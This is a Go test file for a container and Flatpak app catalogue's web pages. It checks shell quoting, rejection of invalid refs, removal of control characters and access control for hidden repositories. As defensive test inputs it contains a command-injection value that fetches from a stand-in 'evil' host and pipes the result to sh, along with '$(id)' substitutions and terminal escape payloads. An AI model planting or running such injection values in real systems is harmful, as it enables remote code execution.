package web

import (
	"encoding/json"
	"fmt"
	"image/color"
	"net/http"
	"net/url"
	"os/exec"
	"regexp"
	"strings"
	"testing"

	"github.com/berth-dev/berth/flatpak"
)

// TestShellQuote: a quoted value reaches the shell as one word, exactly,
// whatever it holds.
func TestShellQuote(t *testing.T) {
	if got, want := shellQuote(`it's`), `'it'\''s'`; got != want {
		t.Errorf("shellQuote = %s, want %s", got, want)
	}
	if got, want := shellCommand("flatpak install", "berth", "org.x.Y"), `flatpak install 'berth' 'org.x.Y'`; got != want {
		t.Errorf("shellCommand = %s, want %s", got, want)
	}
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Fatalf("no sh to check the quoting against: %v", err)
	}
	for _, v := range []string{"", "plain", "org.sh.App;curl${IFS}evil|sh", "$(id)", "`id`", "a'b", "''", `\'`, "a\nb", "*", "~", "-rf", "\\", `"x"`, "!!"} {
		out, err := exec.Command(sh, "-c", "printf %s "+shellQuote(v)).Output()
		if err != nil {
			t.Fatalf("sh -c printf %s: %v", shellQuote(v), err)
		}
		if string(out) != v {
			t.Errorf("%q quoted as %s reaches the shell as %q", v, shellQuote(v), out)
		}
	}
}

// TestInvalidRefNotIndexed: an image whose Flatpak id flatpak would refuse
// is no app anywhere (pages, search, commands), and every command is
// quoted (audit: shell injection through the catalogue).
func TestInvalidRefNotIndexed(t *testing.T) {
	s := newSite(t, Options{})
	const evil = "org.sh.App;curl${IFS}evil|sh"
	l := app{id: "org.sh.Placeholder"}.labels(t)
	l[flatpak.LabelRef] = "app/" + evil + "/x86_64/stable"
	s.push("apps/evil", img{labels: l}, "latest")
	s.push("apps/good", img{labels: app{id: "org.example.Good"}.labels(t)}, "latest")
	for _, p := range []string{"/", "/repositories", "/repositories/apps/evil", "/search?q=", "/search?q=curl", "/api/v1/search?q=", "/api/v1/search?q=org.sh"} {
		r := s.get(p, http.StatusOK)
		if strings.Contains(r.body, "curl${IFS}") || strings.Contains(r.body, "curl$") {
			t.Errorf("%s shows the invalid ref:\n%s", p, clip(r.body))
		}
	}
	// The tag page lists the label among the others (escaped), never in a
	// command.
	r := s.get("/repositories/apps/evil/-/tags/latest", http.StatusOK)
	for _, cmd := range regexp.MustCompile(`(?s)<div class="cmd">.*?</div>`).FindAllString(r.body, -1) {
		if strings.Contains(cmd, "curl") || strings.Contains(cmd, "flatpak") {
			t.Errorf("the tag page offers a command with the invalid ref: %s", cmd)
		}
	}
	s.get("/apps/"+evil, http.StatusNotFound)
	for _, x := range s.apiSearch("q=").Results {
		if x.Kind != "image" && x.ID != "org.example.Good" {
			t.Errorf("search lists %s %q as an app", x.Kind, x.ID)
		}
	}
	r = s.get("/apps/org.example.Good", http.StatusOK)
	if !strings.Contains(r.body, "flatpak install --user "+htmlQ("berth")+" "+htmlQ("org.example.Good")) {
		t.Errorf("the install command is not quoted:\n%s", clip(r.body))
	}
	r = s.get("/repositories/apps/good", http.StatusOK)
	if !strings.Contains(r.body, "docker pull "+htmlQ(strings.TrimPrefix(s.srv.URL, "http://")+"/apps/good:latest")) {
		t.Errorf("the pull command is not quoted:\n%s", clip(r.body))
	}
}

// hostile are the characters that must not reach any page (V26); in a
// JSON answer, not even escaped. (A page showing a manifest's JSON shows
// its escapes, six printable characters, as they are.)
var (
	hostile     = []string{"\x1b", "\a", "\u202e", "\u2066", "\u0085"}
	hostileJSON = []string{`\u001b`, `\u0007`, `\u202e`, `\u2066`, `\u0085`}
)

func checkNoHostile(t *testing.T, what, body string) {
	t.Helper()
	bad := hostile
	if strings.HasPrefix(what, "/api/") {
		bad = append(bad, hostileJSON...)
	}
	for _, h := range bad {
		if strings.Contains(body, h) {
			i := strings.Index(body, h)
			t.Errorf("%s holds %q: …%s…", what, h, body[max(0, i-80):min(len(body), i+80)])
		}
	}
}

// TestControlCharsNowhere: control and bidirectional characters pushed in
// a config's os/architecture/variant, an index's platforms and a
// referrer's artifact type reach no page and no API answer (audit: the
// platform column of the repository page showed them).
func TestControlCharsNowhere(t *testing.T) {
	s := newSite(t, Options{})
	amd := s.push("evil/image", img{arch: "amd64\x1b[31m\a", variant: "v8\u202e\u2066x\u0085",
		labels: app{id: "org.example.Ctl"}.labels(t)}, "single")
	arm := s.push("evil/image", img{arch: "arm64", layer: "arm"})
	idx := s.index("evil/image", "multi", amd, "linux\x1b]0;title\a/amd64\u202e/v1", arm, "linux/arm64\x1b[0m")
	ref := s.referrer("evil/image", amd, "application/vnd.example.sig", map[string]string{"k\x1b": "v\u202e"})
	pages := []string{"/", "/repositories", "/repositories?sort=name", "/repositories/evil/image", "/repositories/evil/image?sort=name",
		"/repositories/evil/image/-/tags/single", "/repositories/evil/image/-/tags/multi",
		"/repositories/evil/image/-/manifests/" + amd.String(), "/repositories/evil/image/-/manifests/" + arm.String(),
		"/repositories/evil/image/-/manifests/" + idx.String(), "/repositories/evil/image/-/manifests/" + ref.String(),
		"/apps/org.example.Ctl", "/search?q=", "/search?q=evil", "/api/v1/search?q=", "/api/v1/search?q=evil"}
	for _, p := range pages {
		checkNoHostile(t, p, s.get(p, http.StatusOK).body)
	}
	if r := s.get("/repositories/evil/image", http.StatusOK); !strings.Contains(r.body, "linux/amd64[31m/v8x") {
		t.Errorf("the cleaned platform is not shown:\n%s", clip(r.body))
	}
}

// TestAccessEveryEndpoint: with CanRead, every page, the search API, the
// counts and the architectures show only readable repositories, and a
// hidden repository is answered exactly as a missing one (V14).
func TestAccessEveryEndpoint(t *testing.T) {
	canRead := func(r *http.Request, repo string) bool {
		return r.Header.Get("X-Test-User") == "admin" || strings.HasPrefix(repo, "apps/")
	}
	s := newSite(t, Options{CanRead: canRead})
	hello := s.push("apps/hello", img{labels: app{id: "org.example.Hello", icon: color.RGBA{B: 255, A: 255}}.labels(t)}, "latest")
	secret := s.push("secret/tool", img{arch: "s390x", labels: app{id: "org.example.Secret", arch: "s390x", icon: color.RGBA{R: 255, A: 255},
		appdata: appdata("org.example.Secret", "Secret Tool", "Hidden", "")}.labels(t)}, "latest", "v1")
	s.referrer("secret/tool", secret, "application/vnd.dev.cosign.simplesigning.v1+json", nil)
	s.push("secret/image", img{arch: "mips64le"}, "v1")
	// An app with a readable build and a hidden one, whose hidden build
	// has its own tag and name.
	s.push("apps/both", img{labels: app{id: "org.example.Both", appdata: appdata("org.example.Both", "Both", "Seen", "")}.labels(t)}, "1")
	s.push("secret/both", img{labels: app{id: "org.example.Both", appdata: appdata("org.example.Both", "Bothsecretname", "Unseen", "")}.labels(t), layer: "sb"}, "hiddentag")

	get := func(p, user string) response {
		t.Helper()
		return s.do(http.MethodGet, p, nil, "X-Test-User", user)
	}
	leaks := []string{"secret/", "Secret", "s390x", "mips64le", "hiddentag", "Bothsecretname", "Unseen"}
	for _, p := range []string{"/", "/repositories", "/repositories?sort=size", "/search?q=", "/search?q=secret", "/search?q=hiddentag",
		"/search?q=Bothsecretname", "/api/v1/search?q=", "/api/v1/search?q=secret", "/api/v1/search?q=hiddentag",
		"/api/v1/search?q=Bothsecretname", "/api/v1/search?q=&arch=s390x", "/apps/org.example.Both", "/apps/org.example.Hello",
		"/repositories/apps/hello", "/repositories/apps/hello/-/tags/latest", "/repositories/apps/hello/-/manifests/" + hello.String()} {
		r := get(p, "")
		if r.status != http.StatusOK {
			t.Errorf("anonymous GET %s: %d", p, r.status)
		}
		if c := r.header.Values("Set-Cookie"); len(c) > 0 {
			t.Errorf("GET %s sets cookies: %q (the catalogue keeps no state)", p, c)
		}
		// The page echoes the query: that is no leak.
		body := r.body
		if u, err := url.Parse(p); err == nil {
			for _, k := range []string{"q", "arch"} {
				if v := u.Query().Get(k); v != "" {
					body = strings.ReplaceAll(body, v, "")
				}
			}
		}
		for _, leak := range leaks {
			if strings.Contains(body, leak) {
				t.Errorf("anonymous GET %s shows %q:\n%s", p, leak, clip(r.body))
			}
		}
	}
	var res searchResponse
	if err := json.Unmarshal([]byte(get("/api/v1/search?q=hiddentag", "").body), &res); err != nil || res.Total != 0 {
		t.Errorf("a hidden build's tag matches for anonymous: %+v %v", res, err)
	}
	// The unrestricted view sees everything.
	for p, want := range map[string]string{
		"/repositories": "secret/tool", "/api/v1/search?q=": "secret/image", "/api/v1/search?q=hiddentag": "hiddentag",
		"/search?q=": "s390x", "/apps/org.example.Secret": "Secret Tool",
		"/repositories/secret/tool/-/manifests/" + secret.String(): "Signature",
	} {
		if r := get(p, "admin"); r.status != http.StatusOK || !strings.Contains(r.body, want) {
			t.Errorf("admin GET %s: %d, lacks %q", p, r.status, want)
		}
	}
	if r := get("/", ""); !strings.Contains(r.body, "Repositories</a> (2)") {
		t.Errorf("anonymous home does not count 2 repositories:\n%s", clip(r.body))
	}
	if r := get("/", "admin"); !strings.Contains(r.body, "Repositories</a> (5)") {
		t.Errorf("admin home does not count 5 repositories:\n%s", clip(r.body))
	}
	// Hidden and missing: same status, same page.
	for hidden, missing := range map[string]string{
		"/repositories/secret/tool":                                "/repositories/secret/nope",
		"/repositories/secret/tool/":                               "/repositories/secret/nope/",
		"/repositories/secret/tool/-/tags/latest":                  "/repositories/secret/nope/-/tags/latest",
		"/repositories/secret/tool/-/manifests/" + secret.String(): "/repositories/secret/nope/-/manifests/" + secret.String(),
		"/apps/org.example.Secret":                                 "/apps/org.example.Nope",
	} {
		h, m := get(hidden, ""), get(missing, "")
		if h.status != http.StatusNotFound || h.status != m.status || h.body != m.body {
			t.Errorf("GET %s: %d, GET %s: %d; bodies equal: %v\n%s\n---\n%s", hidden, h.status, missing, m.status, h.body == m.body, clip(h.body), clip(m.body))
		}
		if r := get(hidden, "admin"); r.status != http.StatusOK {
			t.Errorf("admin GET %s: %d", hidden, r.status)
		}
	}
}

// TestSearchAnswerCapped: a search answer is at most MaxAnswerBytes, lists
// the first results that fit and says it was cut (audit: unbounded
// answers).
func TestSearchAnswerCapped(t *testing.T) {
	const max = 2 << 10
	s := newSite(t, Options{MaxAnswerBytes: max})
	for i := range 12 {
		s.push(fmt.Sprintf("images/%s%02d", strings.Repeat("long", 20), i), img{layer: fmt.Sprint(i)}, "v1")
	}
	r := s.get("/api/v1/search?q=&per_page=100", http.StatusOK)
	if len(r.body) > max {
		t.Errorf("answer of %d bytes, cap %d", len(r.body), max)
	}
	var res searchResponse
	if err := json.Unmarshal([]byte(r.body), &res); err != nil {
		t.Fatalf("not JSON: %v\n%s", err, r.body)
	}
	if !res.Truncated || len(res.Results) == 0 || len(res.Results) >= 12 || res.Total != 12 {
		t.Errorf("truncated=%v, %d results of %d", res.Truncated, len(res.Results), res.Total)
	}
	if res := s.apiSearch("q=&per_page=2"); res.Truncated || len(res.Results) != 2 {
		t.Errorf("a small page: truncated=%v, %d results", res.Truncated, len(res.Results))
	}
}

// TestHiddenBuildKindAndRuntime: what a hidden newest build says about an
// app (its kind, the runtime it uses) decides nothing for a request that
// cannot read it (V14; found by review). The search's kind filter used
// the whole app, and a runtime's "used by" list the newest build's
// metadata, hidden or not.
func TestHiddenBuildKindAndRuntime(t *testing.T) {
	s := newSite(t, Options{CanRead: func(r *http.Request, repo string) bool { return !strings.HasPrefix(repo, "secret/") }})
	both := appdata("org.example.Both", "Both", "", "")
	s.push("public/both", img{labels: app{id: "org.example.Both", appdata: both}.labels(t)}, "1")
	s.push("secret/both", img{labels: app{kind: "runtime", id: "org.example.Both", appdata: both}.labels(t), layer: "sb"}, "2")
	if r := s.apiSearch("kind=app&q=org.example.Both"); len(r.Results) != 1 || r.Results[0].Kind != "app" {
		t.Errorf("kind=app: %+v, want the readable app", r.Results)
	}
	if r := s.apiSearch("kind=runtime&q=org.example.Both"); len(r.Results) != 0 {
		t.Errorf("kind=runtime matched through a hidden build: %+v", r.Results)
	}

	md := func(rt string) string {
		return "[Application]\nname=org.example.User\nruntime=" + rt + "/x86_64/1\ncommand=run\n"
	}
	for _, rt := range []string{"org.example.Platform", "org.example.Other"} {
		s.push("public/"+strings.ToLower(rt), img{labels: app{kind: "runtime", id: rt, metadata: "[Runtime]\nname=" + rt + "\n"}.labels(t), layer: rt}, "latest")
	}
	s.push("public/user", img{labels: app{id: "org.example.User", metadata: md("org.example.Platform")}.labels(t), layer: "u1"}, "1")
	s.push("secret/user", img{labels: app{id: "org.example.User", metadata: md("org.example.Other")}.labels(t), layer: "u2"}, "2")
	if strings.Contains(s.get("/apps/org.example.Other", 200).body, "/apps/org.example.User") {
		t.Error("org.example.Other lists org.example.User, which only a hidden build says uses it")
	}
	if !strings.Contains(s.get("/apps/org.example.Platform", 200).body, "/apps/org.example.User") {
		t.Error("org.example.Platform does not list org.example.User, whose readable build uses it")
	}
}
